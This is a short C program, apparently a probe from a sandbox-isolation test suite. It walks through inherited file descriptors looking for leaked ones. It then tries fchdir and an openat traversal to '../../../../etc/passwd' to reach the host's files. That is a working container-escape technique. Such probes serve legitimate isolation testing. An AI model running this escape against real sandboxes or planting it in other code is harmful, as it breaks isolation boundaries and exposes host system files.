/* fd-walk: looks for a descriptor that somebody left open, and for a way out through it. */
#include "attack.h"
int main(void) {
  for (int fd = 3; fd < 65536; fd++) {
    struct stat seen;
    char what[64];
    if (fstat(fd, &seen) == -1 && errno == EBADF) continue;
    snprintf(what, sizeof what, "descriptor %d", fd);
    got(what);
    if (fchdir(fd) == 0) got("a folder as descriptor");
    if (openat(fd, "../../../../etc/passwd", O_RDONLY) >= 0) got("a file of the host by descriptor");
  }
  return done();
}
